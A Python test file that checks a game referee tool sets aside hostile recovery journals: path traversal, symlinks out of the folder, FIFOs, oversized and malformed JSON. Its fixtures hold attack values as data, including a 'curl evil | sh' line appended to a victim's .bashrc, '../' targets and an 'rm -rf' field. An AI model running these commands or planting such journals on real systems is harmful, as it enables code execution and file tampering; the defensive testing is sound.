"""A folder from someone else (issue 44, item 1; docs/files.md): a `.journal-*` planted in
it is recovered only when it is exactly what the referee writes, and then only inside the
folder, never through a link; any other one is set aside as `.journal-*.rejected`, the
command says so in one line (exit 2), nothing outside the folder changes, and the next
command runs as if it had never been there.

Every attack runs through a real `referee` process that takes the folder's lock
(`league status DIR`, `play GAME MOVE`), with a time limit: a journal must never hang one."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import time
from pathlib import Path

import pytest

from tests.helpers.league import make_league
from tests.helpers.process import run_referee

START = "2026-12-01T12:00:00Z"
NAME = ".journal-0badc0de"
NIKA = '[Game "nika"]\n'


def files(folder: Path) -> dict[str, bytes | str]:
    """Every entry under `folder`: a file's bytes, a link's target."""
    found: dict[str, bytes | str] = {}
    for path in sorted(folder.rglob("*")):
        key = str(path.relative_to(folder))
        if path.is_symlink():
            found[key] = "-> " + os.readlink(path)
        elif path.is_file():
            found[key] = path.read_bytes()
    return found


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A folder beside the league with files an attacker would like to change."""
    folder = tmp_path / "home"
    folder.mkdir()
    for name in ("victim", ".bashrc", "moved", "a", "b"):
        (folder / name).write_text(f"{name} is precious\n")
    return folder


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A paired two-player league, made once for the module, on which `league status` runs."""
    folder = tmp_path_factory.mktemp("made") / "lg"
    make_league(folder, "--game", "pikemen", "--players", "2", names="Ann Bo", pair_at=START)
    assert run_referee("league", "status", str(folder)).returncode == 0
    return folder


@pytest.fixture
def league(tmp_path: Path, made: Path) -> Path:
    """A copy of `made` beside the test's `outside` folder, for the test to plant its journal in
    (the league names no path of its own: a copy is the same league)."""
    folder = tmp_path / "lg"
    shutil.copytree(made, folder, symlinks=True)
    return folder


def plant(folder: Path, steps: object, staged: dict[str, bytes] | None = None, name: str = NAME) -> Path:
    journal = folder / name
    journal.mkdir()
    for each, data in (staged or {}).items():
        (journal / each).write_bytes(data)
    (journal / "commit.json").write_text(json.dumps({"steps": steps}, separators=(",", ":")))
    return journal


def rejected(
    folder: Path, ran: subprocess.CompletedProcess[str], outside: Path, before: dict[str, bytes | str]
) -> None:
    """What every attack must give: exit 2, one line naming the journal, the journal set
    aside, nothing outside changed."""
    assert "Traceback" not in ran.stderr
    assert ran.returncode == 2, ran.stderr
    assert ran.stderr.count("\n") == 1 and NAME in ran.stderr and ".rejected" in ran.stderr, ran.stderr
    assert not os.path.lexists(folder / NAME)
    assert os.path.lexists(folder / (NAME + ".rejected"))
    assert files(outside) == before


def runs_normally(folder: Path) -> None:
    again = run_referee("league", "status", str(folder))
    assert again.returncode == 0 and again.stderr == "", again.stderr
    assert os.path.lexists(folder / (NAME + ".rejected"))  # left for the game master to look at, never read


def set_aside(league: Path, outside: Path, words: str = "", timeout: float = 120) -> None:
    """`league status` on a league with a hostile journal planted: rejected (the journal set
    aside, nothing outside changed, the stderr line naming `words`), then the next command
    runs as if the journal had never been there."""
    before = files(outside)
    ran = run_referee("league", "status", str(league), timeout=timeout)
    rejected(league, ran, outside, before)
    assert words in ran.stderr
    runs_normally(league)


def _targets(outside: Path, relative: bool) -> list[str]:
    def named(name: str) -> str:
        return f"../home/{name}" if relative else str(outside / name)

    return [named("victim"), named(".bashrc"), named("moved")]


@pytest.mark.parametrize("relative", [False, True], ids=["absolute", "dot-dot"])
def test_a_journal_naming_files_outside_the_folder_is_set_aside_by_play(
    tmp_path: Path, outside: Path, relative: bool
) -> None:
    games = tmp_path / "games"
    games.mkdir()
    game = games / "g.rgn"
    game.write_text(NIKA)
    victim, rc, moved = _targets(outside, relative)
    steps = [
        {"kind": "remove", "target": victim, "mode": 0},
        {"kind": "append", "target": rc, "mode": 0o640, "line": "curl evil | sh\n", "at": 0},
        {"kind": "write", "target": moved, "mode": 0o644, "staged": "0"},
    ]
    plant(games, steps, {"0": b"overwritten\n"})
    before = files(outside)
    ran = run_referee("play", str(game), "x")  # an illegal move: the lock is taken, recovery runs first
    rejected(games, ran, outside, before)
    assert "not a name inside the folder" in ran.stderr
    assert game.read_text() == NIKA
    again = run_referee("play", str(game), "d1-W")
    assert again.returncode == 0, again.stderr
    assert files(outside) == before


def test_a_journal_that_is_a_link_to_another_folder_is_renamed_not_followed(league: Path, outside: Path) -> None:
    (league / NAME).symlink_to(outside)
    set_aside(league, outside, "symbolic link")
    assert (league / (NAME + ".rejected")).is_symlink()


def test_a_journal_that_is_a_file_is_set_aside(league: Path, outside: Path) -> None:
    (league / NAME).write_text("{}")
    set_aside(league, outside)


def test_a_commit_linked_to_dev_zero_is_never_read(league: Path, outside: Path) -> None:
    journal = league / NAME
    journal.mkdir()
    (journal / "commit.json").symlink_to("/dev/zero")
    set_aside(league, outside, "symbolic link", timeout=60)


def test_a_commit_that_is_a_fifo_never_hangs(league: Path, outside: Path) -> None:
    journal = league / NAME
    journal.mkdir()
    os.mkfifo(journal / "commit.json")
    set_aside(league, outside, "not a regular file", timeout=60)


def test_a_commit_of_300_mb_is_refused_without_reading_it(league: Path, outside: Path) -> None:
    journal = league / NAME
    journal.mkdir()
    with open(journal / "commit.json", "wb") as commit:  # sparse: no disk filled
        commit.write(b'{"steps": [')
        commit.truncate(300 << 20)
    set_aside(league, outside, "larger than 16 MiB", timeout=60)


def test_a_commit_of_16_mib_and_one_byte_is_refused(league: Path, outside: Path) -> None:
    body = json.dumps({"steps": [{"kind": "remove", "target": "x" * 200, "mode": 0}]}).encode()
    journal = league / NAME
    journal.mkdir()
    (journal / "commit.json").write_bytes(body + b" " * ((16 << 20) + 1 - len(body)))
    set_aside(league, outside)


MALFORMED = {
    "missing kind": [{"target": "league.log", "mode": 416, "line": "x\n", "at": 0}],
    "missing target": [{"kind": "append", "mode": 416, "line": "x\n", "at": 0}],
    "mode not a number": [{"kind": "remove", "target": "r1-t1.rgn", "mode": "rw-r--r--"}],
    "mode a boolean": [{"kind": "remove", "target": "r1-t1.rgn", "mode": True}],
    "mode out of range": [{"kind": "remove", "target": "r1-t1.rgn", "mode": 0o17777}],
    "a NUL": [{"kind": "remove", "target": "r1-t1.rgn\u0000x", "mode": 0}],
    "a lone surrogate": [{"kind": "append", "target": "league.log", "mode": 416, "line": "\ud800\n", "at": 0}],
    "a surrogate in a target": [{"kind": "remove", "target": "r1-\udc80.rgn", "mode": 0}],
    "an unknown kind": [{"kind": "chmod", "target": "r1-t1.rgn", "mode": 0o777}],
    "a field too many": [{"kind": "remove", "target": "r1-t1.rgn", "mode": 0, "then": "rm -rf"}],
    "a staged copy not the journal's": [{"kind": "write", "target": "r1-t1.rgn", "mode": 420, "staged": "../x"}],
    "steps not a list": {"kind": "remove"},
    "an empty name": [{"kind": "remove", "target": "outbox//x", "mode": 0}],
    "a line without its end": [{"kind": "append", "target": "league.log", "mode": 416, "line": "x", "at": 0}],
}


@pytest.mark.parametrize("shape", list(MALFORMED))
def test_a_malformed_commit_is_set_aside_and_the_folder_is_not_wedged(league: Path, outside: Path, shape: str) -> None:
    plant(league, MALFORMED[shape])
    games = {path.name: path.read_bytes() for path in league.glob("*.rgn")}
    set_aside(league, outside)
    assert {path.name: path.read_bytes() for path in league.glob("*.rgn")} == games, "a step was applied"


def test_a_commit_nested_too_deep_is_set_aside(league: Path, outside: Path) -> None:
    journal = league / NAME
    journal.mkdir()
    (journal / "commit.json").write_text('{"steps": ' + "[" * 200_000 + "]" * 200_000 + "}")
    set_aside(league, outside)


def test_a_commit_that_is_a_folder_is_set_aside(league: Path, outside: Path) -> None:
    (league / NAME / "commit.json").mkdir(parents=True)
    set_aside(league, outside, "not a regular file")


def test_a_staged_copy_that_is_a_folder_is_set_aside(league: Path, outside: Path) -> None:
    game = sorted(league.glob("*.rgn"))[0]
    text = game.read_bytes()
    journal = plant(league, [{"kind": "write", "target": game.name, "mode": 420, "staged": "0"}])
    (journal / "0").mkdir()
    (journal / "0" / "inside").write_text("x")
    set_aside(league, outside)
    assert game.read_bytes() == text


def test_a_step_through_a_link_inside_the_folder_is_refused(league: Path, outside: Path) -> None:
    """`outbox` a link to another folder: the step would write there."""
    (league / "lnk").symlink_to(outside)
    steps = [{"kind": "write", "target": "lnk/victim", "mode": 420, "staged": "0"}]
    plant(league, steps, {"0": b"overwritten\n"})
    set_aside(league, outside, "symbolic link")


def test_an_append_to_a_log_that_is_a_link_is_refused(league: Path, outside: Path) -> None:
    (league / "rc.log").symlink_to(outside / ".bashrc")
    plant(league, [{"kind": "append", "target": "rc.log", "mode": 416, "line": "curl evil | sh\n", "at": 0}])
    set_aside(league, outside)


def test_a_second_rejected_journal_of_the_same_name_gets_a_name_of_its_own(league: Path, outside: Path) -> None:
    (league / (NAME + ".rejected")).mkdir()
    (league / NAME).symlink_to(outside)
    ran = run_referee("league", "status", str(league))
    assert ran.returncode == 2 and f"{NAME}-1.rejected" in ran.stderr, ran.stderr
    assert (league / f"{NAME}-1.rejected").is_symlink() and (league / (NAME + ".rejected")).is_dir()
    runs_normally(league)


def _appends(count: int) -> tuple[list[dict[str, object]], bytes]:
    """`count` appends of a line of their own to one log, and what the log holds after them."""
    lines = [f"{number:06d}\n" for number in range(count)]
    offsets = [0]
    for line in lines:
        offsets.append(offsets[-1] + len(line))
    steps: list[dict[str, object]] = [
        {"kind": "append", "target": "junk.log", "mode": 416, "line": line, "at": at}
        for line, at in zip(lines, offsets, strict=False)
    ]
    return steps, "".join(lines).encode()


def test_recovery_is_linear_in_its_steps(league: Path) -> None:
    """200,000 appends to one log (16 MB of commit.json, just under the bound). On main
    (d800d0a, tmpfs) each one searched the whole log for its line and fsynced it: 20,000
    took 11 s, 200,000 took 819 s; now 2.0 s and 17 s."""
    timings = {}
    for count in (20_000, 200_000):
        steps, log = _appends(count)
        plant(league, steps)
        started = time.monotonic()
        ran = run_referee("league", "status", str(league), timeout=300)
        timings[count] = time.monotonic() - started
        assert ran.returncode == 0, ran.stderr
        assert (league / "junk.log").read_bytes() == log
        assert not (league / NAME).exists()
        (league / "junk.log").unlink()
    # Linear: ten times the steps cost about ten times as much (each run also starts Python);
    # quadratic would be a hundred times.
    assert timings[200_000] < 120, timings
    assert timings[200_000] < 30 * timings[20_000], timings


def test_an_outbox_elsewhere_is_completed_only_by_the_gateway_that_names_it(tmp_path: Path) -> None:
    """The one journal with steps outside its folder: the answers of a move by mail written
    to `--outbox` elsewhere. Killed before they are, the redelivery with the same `--outbox`
    completes them; a command that does not name that outbox never writes there."""
    from tests.helpers import faults
    from tests.helpers.mail import GM, NIKA_PLAYERS, message, nika_game

    games, elsewhere = tmp_path / "games", tmp_path / "sent"
    games.mkdir()
    nika_game(games)
    mail = message(NIKA_PLAYERS["Athens"], "[g1] move", "d1+d2+d3-W i3-E\n", message_id="<m1@example.org>")
    args = ["mail", "receive", str(games), "--outbox", str(elsewhere), "--from", GM, "--now", START]
    trace = faults.run(args, mail.as_bytes(), faults.Counting())
    assert trace.code == 0, trace.err
    answers = sorted(path.name for path in elsewhere.glob("*.eml"))
    assert answers

    def killed_answering() -> faults.Ran:
        """The game afresh, the outbox gone, and the move killed at its first step there."""
        shutil.rmtree(games)
        shutil.rmtree(elsewhere)
        games.mkdir()
        nika_game(games)
        return faults.run(args, mail.as_bytes(), faults.Faulty(trace.first(f" {elsewhere}/"), "kill"))

    killed = killed_answering()
    assert killed.code == faults.KILLED and faults.journals(games)  # committed, nothing applied
    assert faults.run(args, mail.as_bytes()).code == 0  # the redelivery: completed, then a duplicate
    assert len(list(elsewhere.glob("*.eml"))) == len(answers) + 1  # and the "not played again" answer
    assert not faults.journals(games)
    # The same kill, then a command that does not name the outbox: it is never written.
    assert killed_answering().code == faults.KILLED
    before = files(elsewhere)
    other = run_referee("play", str(games / "g1.rgn"), "x")
    assert other.returncode == 2 and "outside the folder" in other.stderr and other.stderr.count("\n") == 1
    assert files(elsewhere) == before
